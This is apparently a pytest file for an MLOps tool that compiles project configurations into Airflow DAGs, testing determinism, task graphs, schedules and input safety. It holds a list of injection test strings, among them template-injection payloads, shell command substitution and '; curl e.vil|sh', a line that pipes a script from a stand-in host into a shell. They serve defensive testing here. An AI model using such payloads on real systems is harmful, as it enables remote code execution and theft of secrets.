"""A pipeline as a DAG: the file is the same for every project, and everything of a project stands in the plan."""

from __future__ import annotations

import ast
import json
from pathlib import Path
from typing import Any

import pytest

from mlopsctl.config.load import load_project
from mlopsctl.ground import resources
from mlopsctl.ground.errors import InvalidProject
from mlopsctl.lowering.lower import lower
from mlopsctl.orchestrators.airflow.compile import compile_airflow
from mlopsctl.orchestrators.airflow.plan_file import version_of
from mlopsctl.orchestrators.contract import Bundle
from mlopsctl.step.portable import decode_run, decode_step
from mlopsctl.step.ports import BEGIN, END

PROJECT = """\
version: 1
name: churn
owner: {owner}
description: {text}
parameters: {{seed: 3, note: {text}}}
data:
  rows:
    source: {{kind: csv, uri: data/rows.csv}}
    label: gone
training:
  task: classification
  targets:
    tree: {{kind: sklearn, estimator: sklearn.tree.DecisionTreeClassifier, params: {{max_depth: 3}}}}
evaluation:
  gates:
    - {{name: floor, kind: threshold, metric: accuracy, min: 0.6}}
{more}
orchestrator: {{kind: airflow, dags: build/dags{settings}}}
"""
HOSTILE = (
    "{{ conn.prod.password }}", "{% for x in y %}", "{{ ''.__class__.__mro__ }}", "'''\nimport os\n'''", '"""', "\\",
    "$(touch canary)", "`id`", "; curl e.vil|sh", "</script>", "${{ github.token }}", "🙂",
)  # fmt: skip


def compiled(folder: Path, *, text: str = "plain", owner: str = "me", settings: str = "", more: str = "") -> Bundle:
    folder.mkdir(parents=True, exist_ok=True)
    # In mlops.yaml a dollar is written twice.
    quoted = json.dumps(text.replace("$", "$$"), ensure_ascii=False)
    (folder / "mlops.yaml").write_text(
        PROJECT.format(
            text=quoted, owner=json.dumps(owner.replace("$", "$$"), ensure_ascii=False), settings=settings, more=more
        ),
        encoding="utf-8",
    )
    loaded = load_project(folder)
    return compile_airflow(loaded, lower(loaded))


def plan(bundle: Bundle) -> Any:
    return json.loads(bundle.files[bundle.main])


def test_the_dag_file_is_the_same_for_every_project(tmp_path: Path) -> None:
    shipped = (resources.template("airflow") / "dag.py").read_bytes()
    for number, text in enumerate(HOSTILE):
        bundle = compiled(tmp_path / str(number), text=text, owner=text)
        assert bundle.files["churn.py"] == shipped
        assert plan(bundle)["description"] == text
        assert plan(bundle)["params"]["note"] == text
    ast.parse(shipped)


def test_no_template_can_be_found_in_what_a_step_is_told(tmp_path: Path) -> None:
    for number, text in enumerate(HOSTILE):
        tasks = plan(compiled(tmp_path / str(number), text=text))["tasks"]
        for task in tasks:
            assert not any(mark in task["text"] for mark in ("{{", "{%", "{#", "$"))


def test_tasks_and_edges_are_those_of_the_pipeline(tmp_path: Path) -> None:
    tasks = {task["id"]: task for task in plan(compiled(tmp_path))["tasks"]}
    loaded = load_project(tmp_path)
    steps = lower(loaded).pipeline.steps
    assert set(tasks) == {BEGIN, END, *(step.id for step in steps)}
    for step in steps:
        assert set(tasks[step.id]["upstream"]) - {BEGIN} == set(step.upstream)
        assert decode_step(tasks[step.id]["text"]).step.id == step.id
        assert tasks[step.id]["trigger_rule"] == "none_failed"
    assert tasks[END]["teardown"]
    assert decode_run(tasks[END]["text"]).steps == tuple(step.id for step in steps)


def test_everything_comes_before_the_end(tmp_path: Path) -> None:
    tasks = {task["id"]: task for task in plan(compiled(tmp_path))["tasks"]}
    before, waiting = set(), [END]
    while waiting:
        for name in tasks[waiting.pop()]["upstream"]:
            if name not in before:
                before.add(name)
                waiting.append(name)
    assert before == set(tasks) - {END}


def test_the_same_project_compiles_to_the_same_bytes_in_any_folder(tmp_path: Path) -> None:
    assert compiled(tmp_path / "a").digest == compiled(tmp_path / "b c" / "d").digest


def test_the_tag_tells_which_version_a_dag_is(tmp_path: Path) -> None:
    one, other = compiled(tmp_path / "a"), compiled(tmp_path / "b", settings=", pool: big")
    assert version_of(one) != version_of(other)
    assert f"mlopsctl-version-{version_of(one)}" in plan(one)["tags"]


def test_a_schedule_stands_in_the_plan_with_its_time_zone(tmp_path: Path) -> None:
    more = 'triggers: [{kind: schedule, cron: "@weekly", timezone: Europe/Berlin}]'
    assert plan(compiled(tmp_path, more=more))["cron"] == {"expression": "0 0 * * 0", "timezone": "Europe/Berlin"}


def test_two_schedules_are_refused_at_the_second(tmp_path: Path) -> None:
    more = 'triggers: [{kind: schedule, cron: "@weekly"}, {kind: schedule, cron: "@daily"}]'
    with pytest.raises(InvalidProject, match="one schedule") as refused:
        compiled(tmp_path, more=more)
    assert refused.value.diagnostics[0].span is not None


def test_containers_cannot_use_a_folder_of_this_machine(tmp_path: Path) -> None:
    image = "r/i@sha256:" + "0" * 64
    settings = f", execution: {{kind: kubernetes}}, image: {image}"
    with pytest.raises(InvalidProject, match="a folder of this machine"):
        compiled(tmp_path, settings=settings)


def test_the_way_from_the_dag_folder_to_the_project_is_relative(tmp_path: Path) -> None:
    assert plan(compiled(tmp_path))["project_folder"] == "../.."
